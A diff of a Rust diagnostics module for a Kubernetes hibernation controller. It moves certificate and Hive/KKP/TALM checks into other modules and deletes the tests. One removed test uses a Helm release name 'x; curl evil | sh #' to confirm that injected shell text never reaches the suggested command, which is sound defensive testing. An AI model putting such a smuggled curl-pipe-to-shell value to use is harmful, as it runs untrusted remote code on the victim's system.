@@ -3,20 +3,17 @@
 use serde_json::Value;
 use shared::annotation::keys;
 use shared::rollout::admission::{POLICY, policy};
-use shared::target::FOUNDATIONDB_CLUSTER;
 use shared::text::list;
 
-use super::certificate::{Distrust, bytes, verify};
 use super::finding::{CheckResult, Finding, Status};
-use super::hub::{Facts, POWER_ROLLOUT_DEFINITION, SECRET, kustomize};
+use super::hub::{Facts, POWER_ROLLOUT_DEFINITION, kustomize};
+use super::{certificate, systems};
 use crate::api::error::HubError;
 use crate::api::{name_of, text};
-use crate::read::installation::{held, is_disabled};
+use crate::read::installation::held;
 
 /// This program's version, which is that of the manifests beside it.
-const VERSION: &str = env!("CARGO_PKG_VERSION");
-/// A certificate that ends sooner has not been renewed when it should have been.
-const DAYS_LEFT: i64 = 7;
+pub(super) const VERSION: &str = env!("CARGO_PKG_VERSION");
 /// Roles of programs, and the policy that confines each.
 const CONFINED: [(&str, &str); 5] = [
     ("hibernate-controller", "hibernate-controller-hive"),
@@ -30,24 +27,24 @@ const CONFINED: [(&str, &str); 5] = [
 pub(super) const POLICY_ONLY: &str = "clusterdeployments.hibernate.sh";
 
 /// A result; none where there is nothing to check; or why the hub did not answer.
-type Checked<'a> = Result<Option<CheckResult>, &'a HubError>;
+pub(super) type Checked<'a> = Result<Option<CheckResult>, &'a HubError>;
 
 /// A check: pure.
 type Check = fn(&Facts) -> Checked<'_>;
 
 /// Every check, in the order of the output.
-const CHECKS: [(&str, Check); 11] = [
+pub(super) const CHECKS: [(&str, Check); 11] = [
     ("versions", versions),
     ("webhook-rules", rules),
     ("webhook-pods", pods),
-    ("webhook-ca-bundle", ca_bundle),
-    ("webhook-certificate", certificate),
+    ("webhook-ca-bundle", certificate::ca_bundle),
+    ("webhook-certificate", certificate::lifetime),
     ("webhook-answers", answers),
     ("policies", policies),
     ("controller-lease", controller_lease),
-    ("hive", hive),
-    ("kkp", kkp),
-    ("talm", talm),
+    ("hive", systems::hive),
+    ("kkp", systems::kkp),
+    ("talm", systems::talm),
 ];
 
 /// Runs all of them.
@@ -70,28 +67,28 @@ pub(super) fn findings(facts: &Facts) -> Vec<Finding> {
 
 /// A result that there always is.
 #[expect(clippy::unnecessary_wraps, reason = "the form of a check")]
-fn done<'a>(result: CheckResult) -> Checked<'a> {
+pub(super) fn done<'a>(result: CheckResult) -> Checked<'a> {
     Ok(Some(result))
 }
 
 /// A failure that another application of the manifests fixes.
-fn reinstall<'a>(facts: &Facts, detail: &str) -> Checked<'a> {
+pub(super) fn reinstall<'a>(facts: &Facts, detail: &str) -> Checked<'a> {
     let command = facts.install("");
     let advice = if command.is_empty() { ": apply your manifests again" } else { "" };
     done(CheckResult::failed(format!("{detail}{advice}"), command))
 }
 
 /// `kubectl rollout restart` of one of our Deployments.
-fn restart(facts: &Facts, name: &str) -> String {
+pub(super) fn restart(facts: &Facts, name: &str) -> String {
     format!("kubectl rollout restart deployment/{name} -n {}", facts.namespace)
 }
 
-fn items<'a>(object: &'a Value, path: &str) -> impl Iterator<Item = &'a Value> {
+pub(super) fn items<'a>(object: &'a Value, path: &str) -> impl Iterator<Item = &'a Value> {
     object.pointer(path).and_then(Value::as_array).into_iter().flatten()
 }
 
 /// Whether the service that the rules name is gone: none of our Pods runs, and what could be said of them is moot.
-fn is_abandoned(facts: &Facts) -> bool {
+pub(super) fn is_abandoned(facts: &Facts) -> bool {
     let service = |rules: &Value| rules.pointer("/webhooks/0/clientConfig/service").is_some();
     let named = facts.rules.iter().any(|rules| matches!(rules, Ok(Some(rules)) if service(rules)));
     named && matches!(facts.service, Ok(None))
@@ -188,66 +185,6 @@ fn pods(facts: &Facts) -> Checked<'_> {
     }
 }
 
-/// The host that an entry's certificate must be for.
-fn host(entry: &Value) -> String {
-    let service = |field: &str| text(entry, &format!("/clientConfig/service/{field}"));
-    let url = text(entry, "/clientConfig/url").parse::<http::Uri>().ok();
-    match url.as_ref().and_then(http::Uri::host) {
-        Some(host) => host.to_owned(),
-        None => format!("{}.{}.svc", service("name"), service("namespace")),
-    }
-}
-
-/// The certificate chain in the Secret; none where another source has it.
-fn chain(facts: &Facts) -> Result<Option<Vec<u8>>, &HubError> {
-    let elsewhere = is_abandoned(facts) || facts.argument(keys::WEBHOOK, "--tls-cert").is_some();
-    let secret = facts.secret.as_ref()?;
-    Ok((!elsewhere).then(|| bytes(secret.as_ref().and_then(|secret| secret.pointer("/data/tls.crt")))))
-}
-
-fn ca_bundle(facts: &Facts) -> Checked<'_> {
-    let secret = format!("Secret {SECRET} in namespace {}", facts.namespace);
-    let restart = restart(facts, keys::WEBHOOK);
-    let [validating, mutating] = &facts.rules;
-    let rules = [validating.as_ref()?, mutating.as_ref()?];
-    let Some(chain) = chain(facts)? else { return Ok(None) };
-    if matches!(facts.secret, Ok(None)) {
-        return reinstall(facts, &format!("{secret} is missing"));
-    }
-    if chain.is_empty() {
-        let detail = format!("{secret} is empty: a running webhook populates it");
-        return done(CheckResult::failed(detail, restart));
-    }
-    for entry in rules.into_iter().flatten().flat_map(|rules| items(rules, "/webhooks")) {
-        let bundle = bytes(entry.pointer("/clientConfig/caBundle"));
-        if let Err(Distrust::Other(why)) = verify(&bundle, &chain, &host(entry), facts.now) {
-            let name = text(entry, "/name");
-            let detail = format!("caBundle of {name} does not match the certificate in {secret}: {why}");
-            return done(CheckResult::failed(detail, restart));
-        }
-    }
-    done(CheckResult::ok(format!("every rule trusts the certificate in {secret}")))
-}
-
-fn certificate(facts: &Facts) -> Checked<'_> {
-    let chain = chain(facts)?.filter(|chain| !chain.is_empty());
-    let (Some(chain), Some(secret)) = (chain, facts.secret.as_ref()?) else { return Ok(None) };
-    let authority = bytes(secret.pointer("/data/ca.crt"));
-    let Some(Ok(Some(rules))) = facts.rules.iter().find(|rules| matches!(rules, Ok(Some(_)))) else { return Ok(None) };
-    let host = host(items(rules, "/webhooks").next().unwrap_or(&Value::Null));
-    let Ok(then) = facts.now.checked_add(jiff::SignedDuration::from_hours(24 * DAYS_LEFT)) else { return Ok(None) };
-    match verify(&authority, &chain, &host, then) {
-        Ok(()) => done(CheckResult::ok(format!("valid for {DAYS_LEFT} days at least"))),
-        Err(Distrust::Expired(end)) => {
-            let end = end.map(|end| format!(" at {end}")).unwrap_or_default();
-            let detail = format!("the webhook's certificate expires{end}: a running webhook renews it earlier");
-            done(CheckResult::failed(detail, restart(facts, keys::WEBHOOK)))
-        }
-        // The check of the bundles names it.
-        Err(Distrust::Other(_)) => Ok(None),
-    }
-}
-
 fn answers(facts: &Facts) -> Checked<'_> {
     match &facts.trial {
         _ if is_abandoned(facts) => Ok(None),
@@ -319,206 +256,5 @@ fn controller_lease(facts: &Facts) -> Checked<'_> {
             let detail = format!("{what} {why}: no controller runs");
             done(CheckResult::failed(detail, restart(facts, keys::CONTROLLER)))
         }
-    }
-}
-
-fn hive(facts: &Facts) -> Checked<'_> {
-    facts.deployments.as_ref()?;
-    let Some(config) = facts.hive.as_ref()? else { return Ok(None) };
-    let served = facts.argument(keys::WEBHOOK, "--served-platforms");
-    let cut_over =
-        || facts.install_overlay("overlays/cut-over", "servedPlatforms={aws\\,openstack},controller.replicas=2");
-    let result = match (is_disabled(config), facts.replicas(keys::CONTROLLER) > 0, served) {
-        (false, true, _) => CheckResult::failed(
-            "Hive's own hibernation controller and hibernate-controller both run: stop ours, or cut over (docs/hive.md)",
-            stop(&facts.namespace),
-        ),
-        (true, false, _) => CheckResult::failed(
-            "neither Hive's own hibernation controller nor hibernate-controller runs: no cluster sleeps or wakes (docs/hive.md, Cut over)",
-            cut_over(),
-        ),
-        (true, true, None) => CheckResult::failed(
-            "Hive's own hibernation controller is off, and the webhook still accepts platforms that only Hive serves (docs/hive.md, Cut over)",
-            cut_over(),
-        ),
-        (false, false, Some(_)) => CheckResult::warning(
-            "Hive's own hibernation controller runs, and the webhook rejects platforms that Hive serves (docs/hive.md, Cut back)",
-            facts.install_overlay("overlays/webhook-only", "servedPlatforms=null"),
-        ),
-        (true, true, Some(served)) => CheckResult::ok(format!("hibernate-controller serves {served}")),
-        (false, false, None) => {
-            CheckResult::ok("Hive's own hibernation controller runs, hibernate-controller does not")
-        }
-    };
-    done(result)
-}
-
-/// The command that stops our controller.
-pub(super) fn stop(namespace: &str) -> String {
-    format!("kubectl scale deployment {} -n {namespace} --replicas=0", keys::CONTROLLER)
-}
-
-fn kkp(facts: &Facts) -> Checked<'_> {
-    if is_abandoned(facts) || !facts.has_user_clusters {
-        return Ok(None);
-    }
-    facts.deployments.as_ref()?;
-    let has_rule = |rules: &Value| items(rules, "/webhooks").any(|entry| text(entry, "/name").contains("kkp"));
-    if facts.argument(keys::CONTROLLER, "--kkp").is_some() && facts.rules.iter().flatten().flatten().any(has_rule) {
-        return done(CheckResult::ok("the controller serves KKP's Clusters, the webhook guards them"));
-    }
-    // The overlay has no guard of FoundationDB's volumes.
-    let has_databases = facts.groups.iter().any(|group| group == FOUNDATIONDB_CLUSTER.kind.group);
-    let command =
-        if has_databases { String::new() } else { facts.install_overlay("overlays/kkp", "components.kkp=true") };
-    let detail =
-        "the hub has KKP's Clusters, and the component kkp is not installed: none of them sleeps (docs/kkp.md)";
-    done(CheckResult::warning(detail, command))
-}
-
-fn talm(facts: &Facts) -> Checked<'_> {
-    let Some(lease) = facts.talm.as_ref()? else { return Ok(None) };
-    if held(lease, facts.now).is_err() {
-        return done(CheckResult::ok("TALM does not renew its Lease: hibernate-controller runs upgrades"));
-    }
-    let detail = "TALM renews its Lease: hibernate-controller, which has --cgu, leaves all upgrades to it";
-    done(CheckResult::warning(detail, ""))
-}
-
-#[cfg(test)]
-mod tests {
-    use jiff::Timestamp;
-    use serde_json::json;
-
-    use super::super::finding::Status::{self, Failed, Ok as Fine, Warning};
-    use super::*;
-
-    /// A hub with both Deployments, where nothing else is.
-    fn facts(controller: &Value, webhook: &Value) -> Facts {
-        let deployment = |name: &str, replicas: &Value, args: &Value| {
-            json!({
-                "metadata": { "name": name, "labels": { "app.kubernetes.io/version": VERSION } },
-                "spec": { "replicas": replicas, "template": { "spec": {
-                    "containers": [{ "args": args, "image": format!("{name}:v{VERSION}") }] } } },
-            })
-        };
-        let named = |name: &str| json!({ "metadata": { "name": name } });
-        Facts {
-            now: Timestamp::UNIX_EPOCH,
-            namespace: keys::NAMESPACE.to_owned(),
-            groups: Vec::new(),
-            rules: [Ok(None), Ok(None)],
-            definition: Ok(None),
-            deployments: Ok(vec![
-                deployment(keys::CONTROLLER, controller, &json!([])),
-                deployment(keys::WEBHOOK, &json!(2), webhook),
-            ]),
-            roles: Ok(vec![named("hibernate-controller-fdb")]),
-            role_bindings: Ok(vec![named("hibernate-controller-secrets")]),
-            policies: Ok(Some(Vec::new())),
-            bindings: Ok(Vec::new()),
-            service: Ok(None),
-            endpoints: Ok(Vec::new()),
-            secret: Ok(None),
-            lease: Ok(None),
-            talm: Ok(None),
-            hive: Ok(None),
-            has_user_clusters: false,
-            trial: Ok(Value::Null),
-        }
-    }
-
-    #[test]
-    fn one_controller_hibernates_the_clusters_of_a_hub() {
-        let (all, ours) = (json!([]), json!(["--served-platforms=aws,openstack"]));
-        for (off, replicas, webhook, expected, overlay) in [
-            (false, 2, &all, Failed, "kubectl scale deployment hibernate-controller -n hibernate-system --replicas=0"),
-            (false, 2, &ours, Failed, "kubectl scale deployment hibernate-controller -n hibernate-system --replicas=0"),
-            (true, 0, &all, Failed, "manifests/overlays/cut-over"),
-            (true, 0, &ours, Failed, "manifests/overlays/cut-over"),
-            (true, 2, &all, Failed, "manifests/overlays/cut-over"),
-            (true, 2, &ours, Fine, ""),
-            (false, 0, &ours, Warning, "manifests/overlays/webhook-only"),
-            (false, 0, &all, Fine, ""),
-        ] {
-            let mut facts = facts(&json!(replicas), webhook);
-            let disabled = if off { json!(["hibernation"]) } else { json!(["clusterpool"]) };
-            facts.hive = Ok(Some(json!({ "spec": { "disabledControllers": disabled } })));
-            let found = hive(&facts).unwrap().unwrap();
-            assert_eq!(found.status, expected, "{off} {replicas} {webhook}");
-            assert!(found.commands.iter().all(|command| command.contains(overlay)), "{found:?}");
-        }
-        assert_eq!(hive(&facts(&json!(2), &all)).unwrap(), None, "a hub without Hive");
-    }
-
-    #[test]
-    fn what_runs_is_installed_again_as_it_is_or_by_whoever_knows_how() {
-        let with = |change: &dyn Fn(&mut Facts)| {
-            let mut facts = facts(&json!(2), &json!([]));
-            change(&mut facts);
-            facts.install("a=b")
-        };
-        let of = |facts: &mut Facts, at: usize, path: &str, value: Value| {
-            *facts.deployments.as_mut().unwrap()[at].pointer_mut(path).unwrap() = value;
-        };
-        let args = "/spec/template/spec/containers/0/args";
-        let helm = |release: &str| {
-            let notes = json!({ "meta.helm.sh/release-name": release, "meta.helm.sh/release-namespace": "ops" });
-            with(&|facts| of(facts, 1, "/metadata", json!({ "name": keys::WEBHOOK, "annotations": notes })))
-        };
-        let labeled =
-            json!({ "webhooks": [{ "name": "suspend.hibernate.sh", "namespaceSelector": { "matchLabels": {} } }] });
-        for (found, expected) in [
-            (with(&|_| {}), "kubectl apply -k manifests/"),
-            (
-                with(&|facts| of(facts, 1, args, json!(["--served-platforms=aws"]))),
-                "kubectl apply -k manifests/overlays/cut-over",
-            ),
-            (
-                with(&|facts| of(facts, 0, "/spec/replicas", json!(0))),
-                "kubectl apply -k manifests/overlays/webhook-only",
-            ),
-            (
-                with(&|facts| facts.rules[0] = Ok(Some(labeled.clone()))),
-                "kubectl apply -k manifests/overlays/labeled-databases",
-            ),
-            (
-                with(&|facts| {
-                    of(facts, 0, args, json!(["--kkp"]));
-                    (facts.roles, facts.role_bindings) = (Ok(Vec::new()), Ok(Vec::new()));
-                }),
-                "kubectl apply -k manifests/overlays/kkp",
-            ),
-            (helm("sleep"), "helm upgrade sleep charts/hibernate --namespace ops --reset-then-reuse-values --set a=b"),
-            (helm("x; curl evil | sh #"), "kubectl apply -k manifests/"),
-            // Only the owner knows the rest.
-            (with(&|facts| facts.namespace = "sleep".to_owned()), ""),
-            (with(&|facts| of(facts, 1, "/spec/template/spec/containers/0/image", json!("r.example.com/x:v1"))), ""),
-            (with(&|facts| of(facts, 0, args, json!(["--cgu"]))), ""),
-            (with(&|facts| facts.role_bindings = Ok(Vec::new())), ""),
-            (with(&|facts| facts.deployments = Ok(Vec::new())), ""),
-        ] {
-            assert_eq!(found, expected);
-        }
-    }
-
-    #[test]
-    fn every_missing_right_is_one_finding_and_no_failure() {
-        let forbidden =
-            || HubError::Forbidden { object: "o".to_owned(), message: "User \"bob\" cannot get".to_owned() };
-        let mut facts = facts(&json!(2), &json!([]));
-        facts.rules = [Err(forbidden()), Err(forbidden())];
-        (facts.definition, facts.roles, facts.secret) = (Err(forbidden()), Err(forbidden()), Err(forbidden()));
-        facts.service = Err(forbidden());
-        (facts.deployments, facts.lease, facts.trial) = (Err(forbidden()), Err(forbidden()), Err(forbidden()));
-        let statuses: Vec<Status> = CHECKS
-            .iter()
-            .filter_map(|(_, check)| match check(&facts) {
-                Ok(result) => result.map(|result| result.status),
-                Err(error) => Some(CheckResult::unread(error).status),
-            })
-            .collect();
-        assert!(statuses.iter().all(|status| *status == Status::NotChecked), "{statuses:?}");
-        assert_eq!(statuses.len(), 9, "a hub without KKP and TALM");
     }
 }
